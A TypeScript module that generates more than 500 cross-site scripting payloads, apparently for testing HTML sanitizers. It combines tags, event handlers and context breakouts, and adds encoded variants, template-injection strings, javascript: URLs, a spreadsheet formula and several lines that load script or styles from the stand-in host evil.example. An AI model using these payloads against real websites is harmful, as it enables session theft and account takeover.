const CALL = 'fired()';

const TAGS = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'input autofocus'],
  ...['details open', 'marquee', 'object data=x', 'embed src=x', 'select autofocus', 'style'],
];
const EVENTS = [
  ...['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'],
];
/** What closes the place that a text may have been put into. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</script>', '-->', '`'];

const OTHERS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x`,
  `<math><mtext></p><img src=x onerror=${CALL}>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `javascript:${CALL}`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{"__html":"<img src=x onerror=${CALL}>"}`,
  `'-${CALL}-'`,
  `";${CALL};//`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `%3Cimg%20src=x%20onerror=${CALL}%3E`,
  `＜img src=x onerror=${CALL}＞`,
  `[x](javascript:${CALL})`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `=HYPERLINK("javascript:${CALL}")`,
];

/** More than 500 texts that run `fired()` wherever somebody takes them for markup, script or an address. */
export function hostilePayloads(): string[] {
  const marked = TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) => BREAKOUTS.map((out) => `${out}<${tag} ${event}=${CALL}>`)),
  );
  return [...OTHERS, ...marked];
}
